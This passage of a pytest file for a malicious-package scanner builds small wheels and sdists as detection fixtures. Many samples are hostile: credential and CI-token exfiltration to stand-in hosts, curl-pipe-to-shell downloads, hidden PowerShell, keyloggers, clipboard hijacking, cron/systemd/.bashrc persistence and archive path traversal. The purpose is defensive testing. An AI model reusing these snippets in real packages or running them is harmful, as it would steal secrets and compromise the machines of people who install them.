"""Every rule, with a release that must trigger it and the closest benign look-alike that must not.

Each case is a small artifact built in memory (a wheel, an sdist, or a hand-built hostile archive),
read with the product's reader and scanned with the product's engine. A positive case names the
finding it expects exactly: rule id, severity, member path, line and when the code runs. A new rule
fails `test_every_rule_has_a_positive_case` until it gets cases here.
"""

from __future__ import annotations

import base64
import io
import random
import stat
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from builders import (
    NSPKG,
    Files,
    findings_of,
    rule_ids,
    scan,
    scan_sdist,
    scan_wheel,
    sdist,
    tar_artifact,
    tar_member,
    wheel,
    zip_artifact,
    zip_bytes,
)
from interlock.ruleset import ALL_RULES, RULES_BY_ID
from interlock.artifact.limits import Limits
from interlock.artifact.model import Artifact
from interlock.artifact.reader import read_artifact_bytes
from interlock.demo.wheel import wheel_bytes, wheel_filename
from interlock.model.findings import Severity
from interlock.model.verdict import Verdict

C, H, M, L, I = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO

Build = Callable[[], Artifact]


def W(files: Files, **kwargs: object) -> Build:
    return lambda: wheel(files, **kwargs)  # type: ignore[arg-type]


def S(files: Files, **kwargs: object) -> Build:
    return lambda: sdist(files, **kwargs)  # type: ignore[arg-type]


@dataclass(frozen=True)
class Positive:
    rule: str
    severity: Severity
    build: Build
    path: str
    line: int | None
    when: str | None


@dataclass(frozen=True)
class Negative:
    rule: str
    build: Build


# -- sample material ----------------------------------------------------------------------------

# 1500 random bytes as base64: a high-entropy blob like a packed payload (or an embedded font).
BLOB = base64.b64encode(random.Random(7).randbytes(1500)).decode()
# A real PNG header followed by bytes: what an icon module embeds.
PNG = base64.b64encode(bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 6).decode()
HELLO = base64.b64encode(b"print('hello')").decode()
CURL_PIPE = base64.b64encode(b"curl -fsSL http://evil.example/x.sh | sh").decode()
HIDDEN_POWERSHELL = base64.b64encode(b"powershell -w hidden -c Start-Process calc").decode()
LISTING = base64.b64encode(b"ls -la /tmp").decode()
LICENSE_TEXT = "Permission is hereby granted, free of charge, to any person obtaining a copy. " * 30


BOMB_LIMITS = Limits(max_ratio=100, min_bomb_bytes=64 * 1024)


def _pkg_info() -> tuple[tarfile.TarInfo, bytes]:
    return tar_member("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")


def _zip_with_nul_name() -> Artifact:
    """zipfile refuses to write a NUL in a name; patch one into both headers afterwards."""
    data = zip_bytes([("pkg/__init__.py", b""), ("pkg/a.pyX.txt", b"x = 1\n")])
    assert data.count(b"pkg/a.pyX.txt") == 2  # local header and central directory
    return read_artifact_bytes("demo-1.0-py3-none-any.whl", data.replace(b"pkg/a.pyX.txt", b"pkg/a.py\x00.txt"))


def _zip_symlink() -> Artifact:
    link = zipfile.ZipInfo("pkg/key")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zip_artifact([("pkg/__init__.py", b""), (link, b"/home/user/.ssh/id_rsa")])


def _zip_duplicate(first: str, second: str) -> Artifact:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name
        return zip_artifact([(first, b"VERSION = '1.0'\n"), (second, b"import os\nos.system('id')\n")])


def _bad_crc() -> Artifact:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("pkg/__init__.py", b"")
        archive.writestr("pkg/data.txt", b"HELLO-WORLD-PAYLOAD")
    damaged = buffer.getvalue().replace(b"HELLO-WORLD-PAYLOAD", b"HELLO-WORLD-PAYLOAX")
    return read_artifact_bytes("demo-1.0-py3-none-any.whl", damaged)


def _intact_stored_zip() -> Artifact:
    return zip_artifact(
        [("pkg/__init__.py", b""), ("pkg/data.txt", b"HELLO-WORLD-PAYLOAD")], compression=zipfile.ZIP_STORED
    )


def _nested(levels: int) -> Artifact:
    inner = zip_bytes([("deep.py", b"x = 1\n")])
    for index in range(levels - 1, 0, -1):
        inner = zip_bytes([(f"level{index + 1}.zip", inner)])
    return zip_artifact([("pkg/__init__.py", b""), ("pkg/level1.zip", inner)])


def _wheel_then(change: Callable[[dict[str, bytes]], None], name: str = "demo", version: str = "1.0") -> Artifact:
    """A well-built wheel, opened and changed the way a hand-made trojan is."""
    with zipfile.ZipFile(io.BytesIO(wheel_bytes(name, version, {"demo/__init__.py": "VALUE = 1\n"}))) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    change(members)
    return zip_artifact(list(members.items()), filename=wheel_filename(name, version))


# -- positive cases -----------------------------------------------------------------------------

POSITIVE: dict[str, Positive] = {
    # combinations -------------------------------------------------------------------------------
    "multiple-threats/toolkit-in-one-uncalled-function": Positive(
        "multiple-threats", C,
        W({"pkg/mod.py": """
            import subprocess
            def f():
                subprocess.run("curl http://198.51.100.7/x | sh", shell=True)
                open("/etc/cron.d/job", "w").write("* * * * * root /tmp/x")
        """}),
        "pkg/mod.py", 3, "call",
    ),
    "credential-exfiltration/harvester-ssh-aws-kube-posts": Positive(
        "credential-exfiltration", C,
        W({"pkg/mod.py": """
            import os
            import requests

            def harvest():
                data = {}
                for p in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config"):
                    data[p] = open(os.path.expanduser(p)).read()
                requests.post("https://collector.example.com/u", json=data)
        """}),
        "pkg/mod.py", 6, "call",
    ),
    "credential-harvest/browser-and-chat-token-stores-at-import": Positive(
        "credential-harvest", H,
        W({"pkg/__init__.py": """
            import os
            LOCAL = os.getenv("LOCALAPPDATA", "")
            STATE = open(LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Local State").read()
            TOKENS = os.listdir(os.getenv("APPDATA", "") + "\\\\discord\\\\Local Storage\\\\leveldb")
        """}),
        "pkg/__init__.py", 3, "import",
    ),
    "wallet-secret-sent/seed-phrase-posted-when-called": Positive(
        "wallet-secret-sent", H,
        W({"pkg/wallet.py": """
            import requests

            def backup(phrase):
                requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
        """}),
        "pkg/wallet.py", 4, "call",
    ),
    "wallet-secret-sent/private-key-posted-at-import": Positive(
        "wallet-secret-sent", C,
        W({"pkg/__init__.py": """
            import os, requests
            requests.post("https://api.example.com/k", data={"privateKey": os.environ.get("PK", "")})
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "typosquat/swapped-letters-of-a-popular-name": Positive(
        "typosquat", H, W({"reqeusts/__init__.py": ""}, name="reqeusts"), "", None, None
    ),
    "typosquat-dependency/egg-info-requires-an-imitation": Positive(
        "typosquat-dependency", H,
        S({"demo.egg-info/requires.txt": "urllib3>=2\nreqeusts>=2.0\n", "demo/__init__.py": ""}),
        "demo.egg-info/requires.txt", 2, None,
    ),
    "credential-exfiltration/one-store-read-and-sent-at-import": Positive(
        "credential-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import requests

            class Stealer:
                def collect(self):
                    return open(os.path.expanduser("~/.ssh/id_rsa")).read()

                def send(self, data):
                    requests.post("https://collector.example.com", data=data)

            Stealer().send(Stealer().collect())
        """}),
        "pkg/__init__.py", 6, "import",
    ),
    "host-exfiltration/setup-py-posts-user-name": Positive(
        "host-exfiltration", C,
        S({"setup.py": """
            import getpass
            import requests
            from setuptools import setup

            requests.post("https://stats.example.com/install", data={"user": getpass.getuser()})
            setup(name="demo")
        """}),
        "setup.py", 5, "install",
    ),
    "host-exfiltration/ci-tokens-posted-at-import": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import requests

            if os.environ.get("CI"):
                found = {name: os.environ[name] for name in ("GITHUB_TOKEN", "PYPI_API_TOKEN") if name in os.environ}
                found["npm"] = os.getenv("NPM_TOKEN")
                requests.post("https://ci-metrics.example.com/v1/report", json=found)
        """}),
        "pkg/__init__.py", 7, "import",
    ),
    "host-exfiltration/environment-filtered-for-secrets-and-posted": Positive(
        "host-exfiltration", C,
        W({"pkg/plugin.py": """
            import os
            import urllib.request

            secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
            urllib.request.urlopen("https://timing.example.com/", data=repr(secrets).encode())
        """}),
        "pkg/plugin.py", 5, "import",
    ),
    "host-exfiltration/environment-handed-to-a-request": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import requests
            requests.post("https://sync.example.com/", json={"env": dict(os.environ)})
        """}),
        "pkg/__init__.py", 3, "import",
    ),
    "host-exfiltration/ci-tokens-read-in-a-loop-and-posted": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import json
            import os
            import urllib.request

            KEYS = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN")
            blob = json.dumps({key: os.environ.get(key) for key in KEYS}).encode()
            urllib.request.urlopen(urllib.request.Request("https://ci-metrics.example.net/v1/run", data=blob))
        """}),
        "pkg/__init__.py", 7, "import",
    ),
    "host-exfiltration/environment-inside-a-serialised-payload": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import json
            import os
            import urllib.request

            body = json.dumps({"model": "base", "env": dict(os.environ)}).encode()
            urllib.request.urlopen("https://registry.example.com/m", data=body)
        """}),
        "pkg/__init__.py", 6, "import",
    ),
    "host-exfiltration/metaclass-sends-at-class-creation": Positive(
        # The metaclass runs when the class statement does, at import.
        "host-exfiltration", C,
        W({"pkg/base.py": """
            import os
            import urllib.request

            class ModelMeta(type):
                def __new__(mcs, name, bases, namespace):
                    urllib.request.urlopen("https://schema.example.com/", data=repr(dict(os.environ)).encode())
                    return super().__new__(mcs, name, bases, namespace)

            class Model(metaclass=ModelMeta):
                pass
        """}),
        "pkg/base.py", 6, "import",
    ),
    "process-spawn/init-subclass-runs-at-class-creation": Positive(
        "process-spawn", L,
        W({"pkg/base.py": """
            import os

            class Plugin:
                def __init_subclass__(cls, **options):
                    os.system("plugin-register")

            class Builtin(Plugin):
                pass
        """}),
        "pkg/base.py", 5, "import",
    ),
    "download-and-run/import-hook-loader": Positive(
        # A finder put on sys.meta_path: the import system runs its loader for every later import.
        "download-and-run", C,
        W({"pkg/_hooks.py": """
            import os
            import sys
            import urllib.request

            class Finder:
                def find_spec(self, name, path, target=None):
                    return None
                def exec_module(self, module):
                    urllib.request.urlretrieve("https://cdn.example.com/patch", "/tmp/.patch")
                    os.chmod("/tmp/.patch", 0o755)

            sys.meta_path.insert(0, Finder())
        """}),
        "pkg/_hooks.py", 10, "import",
    ),
    "shell-download/import-name-assembled-from-pieces": Positive(
        "shell-download", C,
        W({"pkg/__init__.py": """
            getattr(__import__("o" + "s"), "sys" + "tem")("cu" + "rl -fsSL https://cdn.example.com/i.sh | b" + "ash")
        """}),
        "pkg/__init__.py", 1, "import",
    ),
    "input-capture/clipboard-swapped-by-a-thread-started-at-import": Positive(
        "input-capture", M,
        W({"pkg/__init__.py": """
            import re
            import threading
            import time
            import pyperclip

            def _watch():
                while True:
                    if re.fullmatch(r"0x[0-9a-fA-F]{40}", pyperclip.paste()):
                        pyperclip.copy("0x" + "ab" * 20)
                    time.sleep(1)

            threading.Thread(target=_watch, daemon=True).start()
        """}),
        "pkg/__init__.py", 8, "import",
    ),
    "input-capture/keyboard-hooked-at-import": Positive(
        "input-capture", H,
        W({"pkg/hotkeys.py": """
            import keyboard
            pressed = []
            keyboard.on_press(lambda event: pressed.append(event.name))
        """}),
        "pkg/hotkeys.py", 3, "import",
    ),
    "host-exfiltration/keystrokes-posted-from-import": Positive(
        "host-exfiltration", C,
        W({"pkg/listener.py": """
            import threading
            import requests
            from pynput import keyboard

            keys = []
            keyboard.Listener(on_press=lambda key: keys.append(str(key))).start()

            def _flush():
                requests.post("https://hotkeys.example.com/sync", json=keys)

            threading.Timer(60, _flush).start()
        """}),
        "pkg/listener.py", 9, "import",
    ),
    "shell-download/shipped-script-started-at-import": Positive(
        # The Python looks harmless; the script it starts on import fetches and runs a payload.
        "shell-download", C,
        W({
            "pkg/__init__.py": """
                import os
                import subprocess
                here = os.path.dirname(__file__)
                subprocess.Popen(["sh", os.path.join(here, "scripts", "setup_env.sh")], start_new_session=True)
            """,
            "pkg/scripts/setup_env.sh": "#!/bin/sh\n# prepare the environment\ncurl -fsSL https://cdn.example.com/agent.sh | sh\n",
        }),
        "pkg/scripts/setup_env.sh", 3, "import",
    ),
    "beacon/webhook-named-in-a-constant-posted-at-import": Positive(
        "beacon", C,
        W({"pkg/__init__.py": """
            import getpass
            import requests

            WEBHOOK = "https://discord.com/api/webhooks/1234567890/token-goes-here"
            requests.post(WEBHOOK, json={"content": getpass.getuser()})
        """}),
        "pkg/__init__.py", 5, "import",
    ),
    "beacon/webhook-request-at-import": Positive(
        "beacon", C,
        W({"pkg/__init__.py": """
            import requests

            requests.get("https://webhook.site/3f0c2a")
        """}),
        "pkg/__init__.py", 3, "import",
    ),
    "beacon/chat-webhook-with-token-when-called": Positive(
        "beacon", C,
        W({"pkg/notify.py": """
            import requests
            def alert(text):
                requests.post("https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyzABCDEFGH", json={"content": text})
        """}),
        "pkg/notify.py", 3, "call",
    ),
    "hidden-command/base64-curl-pipe-sh": Positive(
        "hidden-command", C,
        W({"pkg/mod.py": f"""
            import base64
            import os

            def update():
                os.system(base64.b64decode("{CURL_PIPE}").decode())
        """}),
        "pkg/mod.py", 5, "call",
    ),
    "hidden-command/base64-hidden-powershell": Positive(
        "hidden-command", C,
        W({"pkg/mod.py": f"""
            import base64
            import subprocess

            def update():
                subprocess.Popen(base64.b64decode("{HIDDEN_POWERSHELL}").decode(), shell=True)
        """}),
        "pkg/mod.py", 5, "call",
    ),
    "persistence-install/setup-py-writes-systemd-user-unit": Positive(
        "persistence-install", C,
        S({"setup.py": """
            import os
            from setuptools import setup

            UNIT = "[Service]\\nExecStart=/usr/bin/python3 -m demo.agent\\n"
            with open(os.path.expanduser("~/.config/systemd/user/sysmon.service"), "w") as unit:
                unit.write(UNIT)
            setup(name="demo")
        """}),
        "setup.py", 5, "install",
    ),
    "persistence-install/crontab-fed-by-a-pipe-at-import": Positive(
        "persistence-install", C,
        W({"pkg/__init__.py": """
            import os
            os.system('(crontab -l; echo "*/5 * * * * python3 -m pkg.agent") | crontab -')
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "persistence/scheduled-task-created-at-import": Positive(
        "persistence", H,
        W({"pkg/__init__.py": """
            import subprocess
            subprocess.run(["schtasks", "/Create", "/SC", "ONLOGON", "/TN", "Updater", "/TR", "pythonw -m pkg.agent"])
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "persistence-install/appends-to-bashrc-at-import": Positive(
        "persistence-install", C,
        W({"pkg/__init__.py": """
            import os
            rc = open(os.path.expanduser("~/.bashrc"), "a")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "download-and-run/setup-py-fetch-chmod-run": Positive(
        "download-and-run", C,
        S({"setup.py": """
            import os
            import subprocess
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://cdn.example.com/helper", "/tmp/helper")
            os.chmod("/tmp/helper", 0o755)
            subprocess.call(["/tmp/helper"])
            setup(name="demo")
        """}),
        "setup.py", 7, "install",
    ),
    "download-and-run/setup-py-fetch-then-run-it-by-file-name": Positive(
        # Named bare but with an extension: Windows looks in the current directory first.
        "download-and-run", C,
        S({"setup.py": """
            import os
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://cdn.example.com/update", "update.exe")
            os.system("update.exe")
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    "download-and-run/setup-py-fetch-then-a-shell-runs-it": Positive(
        "download-and-run", C,
        S({"setup.py": """
            import subprocess
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://cdn.example.com/install.sh", "install.sh")
            subprocess.call(["bash", "install.sh"])
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    "process-spawn/setup-py-release-command-registered-as-install": Positive(
        # A class written like a release helper, registered under a command pip runs.
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import Command, setup

            class PublishCommand(Command):
                user_options = []
                def run(self):
                    os.system("payload --now")

            setup(name="demo", cmdclass={"install": PublishCommand})
        """}),
        "setup.py", 7, "install",
    ),
    "process-spawn/setup-py-release-command-made-a-sub-command": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import Command, setup
            from setuptools.command.install import install

            class PublishCommand(Command):
                def run(self):
                    os.system("payload --now")

            install.sub_commands.append(("publish", None))
            setup(name="demo", cmdclass={"publish": PublishCommand})
        """}),
        "setup.py", 7, "install",
    ),
    "process-spawn/setup-py-argv-branch-for-a-command-pip-runs": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            import sys
            from setuptools import setup

            if "install" in sys.argv or sys.argv[1] == "bdist_wheel":
                os.system("payload --now")
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    "host-exfiltration/import-sends-the-process-list": Positive(
        # importantpackage: the process list, read with `ps`, posted at import.
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import urllib.request

            processes = os.popen("ps h -eo pid:1,command").read()
            request = urllib.request.Request("https://collector.example.com/", data=processes.encode())
            urllib.request.urlopen(request)
        """}),
        "pkg/__init__.py", 5, "import",
    ),
    "download-and-run/curl-then-run-when-called": Positive(
        "download-and-run", H,
        W({"pkg/tools.py": """
            import subprocess
            def fetch_tool():
                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
                subprocess.run(["/tmp/tool", "--init"])
        """}),
        "pkg/tools.py", 3, "call",
    ),
    "download-and-run/helpers-called-at-import": Positive(
        "download-and-run", C,
        W({"pkg/__init__.py": """
            import os
            import subprocess
            import urllib.request

            def fetch():
                urllib.request.urlretrieve("https://cdn.example.com/agent", "/tmp/agent")

            def launch():
                os.chmod("/tmp/agent", 0o755)
                subprocess.Popen(["/tmp/agent"])

            fetch()
            launch()
        """}),
        "pkg/__init__.py", 9, "import",
    ),
    "obfuscated-exec/blob-and-exec-at-import": Positive(
        "obfuscated-exec", H,
        W({"pkg/core.py": f"""
            def _unpack(data):
                return data[::-1]

            BLOB = "{BLOB}"
            exec(_unpack(BLOB))
        """}),
        "pkg/core.py", 4, "import",
    ),
    "obfuscated-exec/blob-and-exec-in-setup-py": Positive(
        "obfuscated-exec", C,
        S({"setup.py": f"""
            from setuptools import setup

            def _unpack(data):
                return data[::-1]

            BLOB = "{BLOB}"
            exec(_unpack(BLOB))
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    # capabilities ------------------------------------------------------------------------------
    "process-spawn/module-top-level": Positive(
        "process-spawn", L,
        W({"pkg/__init__.py": """
            import subprocess
            subprocess.Popen(["notepad.exe"])
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "process-spawn/setup-py-fixed-command": Positive(
        "process-spawn", H,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.system("whoami")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "process-spawn/pth-line": Positive(
        "process-spawn", C, W({"demo_init.pth": "import os; os.system('id')\n"}), "demo_init.pth", 1, "startup"
    ),
    "shell-download/curl-pipe-sh-when-called": Positive(
        "shell-download", M,
        W({"pkg/cli.py": """
            import subprocess
            def bootstrap():
                subprocess.run("curl -fsSL https://example.org/get.sh | sh", shell=True)
        """}),
        "pkg/cli.py", 3, "call",
    ),
    "shell-download/wget-in-setup-py": Positive(
        "shell-download", C,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.system("wget https://example.org/get.sh -O- | sh")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "powershell-hidden/encoded-command-when-called": Positive(
        "powershell-hidden", H,
        W({"pkg/win.py": """
            import subprocess
            def hide():
                subprocess.Popen("powershell -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")
        """}),
        "pkg/win.py", 3, "call",
    ),
    "powershell-hidden/hidden-window-at-import": Positive(
        "powershell-hidden", C,
        W({"pkg/__init__.py": """
            import subprocess
            subprocess.Popen(["powershell", "-w", "hidden", "-c", "Start-Sleep 1"])
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "dynamic-exec/setup-py-execs-version-file": Positive(
        "dynamic-exec", M,
        S({"setup.py": """
            from setuptools import setup
            exec(open("demo/version.py").read())
            setup(name="demo", version=__version__)
        """}),
        "setup.py", 2, "install",
    ),
    "dynamic-exec/environment-code-at-import": Positive(
        "dynamic-exec", L,
        W({"pkg/__init__.py": """
            import os
            exec(os.environ.get("DEMO_BOOT", ""))
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "dynamic-exec/pth-line": Positive(
        "dynamic-exec", H, W({"boot.pth": "import os; exec(os.environ.get('BOOT', ''))\n"}), "boot.pth", 1, "startup"
    ),
    "decoded-exec/base64-exec-at-import": Positive(
        "decoded-exec", C,
        W({"pkg/__init__.py": f"""
            import base64
            exec(base64.b64decode("{HELLO}"))
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "decoded-exec/decoded-variable-exec-when-called": Positive(
        "decoded-exec", H,
        W({"pkg/mod.py": f"""
            from base64 import b64decode

            def boot():
                code = b64decode("{HELLO}")
                exec(code)
        """}),
        "pkg/mod.py", 5, "call",
    ),
    "download-exec/exec-urlopen-at-import": Positive(
        "download-exec", C,
        W({"pkg/__init__.py": """
            from urllib.request import urlopen
            exec(urlopen("https://example.org/boot.py").read())
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "download-exec/exec-response-when-called": Positive(
        "download-exec", M,
        W({"pkg/remote.py": """
            import requests
            def load(url):
                exec(requests.get(url).text)
        """}),
        "pkg/remote.py", 3, "call",
    ),
    "network-access/request-by-module-body": Positive(
        "network-access", H,
        W({"pkg/__init__.py": """
            import requests
            requests.get("https://telemetry.example.com/ping")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "network-access/function-called-at-import": Positive(
        "network-access", M,
        W({"pkg/__init__.py": """
            import requests

            def _ping():
                requests.get("https://telemetry.example.com/ping")

            _ping()
        """}),
        "pkg/__init__.py", 4, "import",
    ),
    "network-access/setup-py": Positive(
        "network-access", H,
        S({"setup.py": """
            import urllib.request
            from setuptools import setup
            urllib.request.urlopen("https://example.org/install-count")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "network-access/pth-line": Positive(
        "network-access", C,
        W({"ping.pth": "import urllib.request; urllib.request.urlopen('https://example.org/ping')\n"}),
        "ping.pth", 1, "startup",
    ),
    "dns-lookup/setup-py-resolves-probe": Positive(
        "dns-lookup", M,
        S({"setup.py": """
            import socket
            from setuptools import setup
            socket.gethostbyname("probe.example.com")
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "exfil-endpoint/webhook-in-function": Positive(
        "exfil-endpoint", L,
        W({"pkg/notify.py": """
            import json
            def alert(session, text):
                session.post("https://webhook.site/3f0c2a", data=json.dumps({"text": text}))
        """}),
        "pkg/notify.py", 3, "call",
    ),
    "exfil-endpoint/passed-to-call-at-import": Positive(
        "exfil-endpoint", M,
        W({"pkg/__init__.py": """
            import logging
            logging.getLogger(__name__).info("https://webhook.site/3f0c2a")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "exfil-endpoint/raw-ip-url-in-setup-py": Positive(
        "exfil-endpoint", H,
        S({"setup.py": """
            from setuptools import setup
            setup(name="demo", url="http://45.13.22.9/demo")
        """}),
        "setup.py", 2, "install",
    ),
    "credential-access/setup-py-reads-ssh-key": Positive(
        "credential-access", H,
        S({"setup.py": """
            import os
            from setuptools import setup
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "credential-access/module-reads-ssh-key-at-import": Positive(
        "credential-access", M,
        W({"pkg/__init__.py": """
            import os
            key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "env-dump/setup-py-serialises-environment": Positive(
        "env-dump", M,
        S({"setup.py": """
            import json, os
            from setuptools import setup
            snapshot = json.dumps(dict(os.environ))
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "env-dump/pth-line": Positive(
        "env-dump", H, W({"env.pth": "import os, json; json.dumps(dict(os.environ))\n"}), "env.pth", 1, "startup"
    ),
    "host-fingerprint/setup-py-user-name": Positive(
        "host-fingerprint", L,
        S({"setup.py": """
            import getpass
            from setuptools import setup
            user = getpass.getuser()
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    "host-fingerprint/sitecustomize-host-name": Positive(
        "host-fingerprint", M,
        W({"sitecustomize.py": """
            import socket
            HOST = socket.gethostname()
        """}),
        "sitecustomize.py", 2, "startup",
    ),
    "persistence/opens-bashrc-for-append-at-import": Positive(
        "persistence", H,
        W({"pkg/__init__.py": """
            import os
            rc = open(os.path.expanduser("~/.bashrc"), "a")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "kubernetes-takeover/setup-py-reads-service-account-token": Positive(
        "kubernetes-takeover", H,
        S({"setup.py": """
            from setuptools import setup
            token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
            setup(name="demo")
        """}),
        "setup.py", 2, "install",
    ),
    "kubernetes-takeover/token-read-at-import": Positive(
        "kubernetes-takeover", L,
        W({"pkg/__init__.py": 'token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\n'}),
        "pkg/__init__.py", 1, "import",
    ),
    "obfuscated-code/blob-in-module": Positive(
        "obfuscated-code", L, W({"pkg/assets.py": f'FONT = "{BLOB}"\n'}), "pkg/assets.py", 1, "import"
    ),
    "obfuscated-code/blob-in-setup-py": Positive(
        "obfuscated-code", M,
        S({"setup.py": f'from setuptools import setup\nDATA = "{BLOB}"\nsetup(name="demo")\n'}),
        "setup.py", 2, "install",
    ),
    "defense-evasion/defender-exclusion-when-called": Positive(
        "defense-evasion", H,
        W({"pkg/win.py": """
            import subprocess
            def quiet():
                subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\\\Users"])
        """}),
        "pkg/win.py", 3, "call",
    ),
    "crypto-miner/pool-argument-when-called": Positive(
        "crypto-miner", H,
        W({"pkg/run.py": """
            import subprocess
            def start():
                subprocess.Popen(["./bin/helper", "-o", "stratum+tcp://pool.example.com:3333", "--donate-level", "1"])
        """}),
        "pkg/run.py", 3, "call",
    ),
    "chmod-executable/setup-py": Positive(
        "chmod-executable", M,
        S({"setup.py": """
            import os
            from setuptools import setup
            os.chmod("scripts/demo-tool", 0o755)
            setup(name="demo")
        """}),
        "setup.py", 3, "install",
    ),
    # archive structure -------------------------------------------------------------------------
    "archive-path-traversal/zip-dot-dot": Positive(
        "archive-path-traversal", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("../evil.py", b"x = 1\n")]),
        "../evil.py", None, None,
    ),
    "archive-path-traversal/tar-dot-dot": Positive(
        "archive-path-traversal", H,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/../../evil.py", b"x = 1\n")]),
        "demo-1.0/../../evil.py", None, None,
    ),
    "archive-path-traversal/zip-name-with-nul": Positive(
        "archive-path-traversal", H,
        lambda: _zip_with_nul_name(),
        "pkg/a.py\\x00.txt", None, None,
    ),
    "archive-absolute-path/zip": Positive(
        "archive-absolute-path", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("/etc/profile.d/evil.sh", b"id\n")]),
        "/etc/profile.d/evil.sh", None, None,
    ),
    "archive-absolute-path/tar": Positive(
        "archive-absolute-path", H,
        lambda: tar_artifact([_pkg_info(), tar_member("/tmp/evil.py", b"x = 1\n")]),
        "/tmp/evil.py", None, None,
    ),
    "archive-absolute-path/windows-drive": Positive(
        "archive-absolute-path", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("C:/Users/Public/evil.py", b"x = 1\n")]),
        "C:/Users/Public/evil.py", None, None,
    ),
    "archive-link/tar-symlink": Positive(
        "archive-link", M,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/key", kind=tarfile.SYMTYPE, linkname="/home/user/.ssh/id_rsa")]),
        "demo-1.0/key", None, None,
    ),
    "archive-link/tar-hard-link": Positive(
        "archive-link", M,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/copy", kind=tarfile.LNKTYPE, linkname="demo-1.0/PKG-INFO")]),
        "demo-1.0/copy", None, None,
    ),
    "archive-link/zip-symlink-mode": Positive("archive-link", M, _zip_symlink, "pkg/key", None, None),
    "archive-device/tar-character-device": Positive(
        "archive-device", H,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/null", kind=tarfile.CHRTYPE)]),
        "demo-1.0/null", None, None,
    ),
    "archive-device/tar-fifo": Positive(
        "archive-device", H,
        lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/pipe", kind=tarfile.FIFOTYPE)]),
        "demo-1.0/pipe", None, None,
    ),
    "archive-duplicate-member/zip-same-path-twice": Positive(
        "archive-duplicate-member", M,
        lambda: _zip_duplicate("pkg/__init__.py", "pkg/__init__.py"),
        "pkg/__init__.py", None, None,
    ),
    "archive-compression-ratio/zeros": Positive(
        "archive-compression-ratio", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/zeros.bin", bytes(1024 * 1024))], limits=BOMB_LIMITS),
        "pkg/zeros.bin", None, None,
    ),
    "archive-member-too-large/over-limit": Positive(
        "archive-member-too-large", M,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.bin", bytes(5000))], limits=Limits(max_member_bytes=4096)),
        "pkg/big.bin", None, None,
    ),
    "archive-nesting-too-deep/three-levels": Positive(
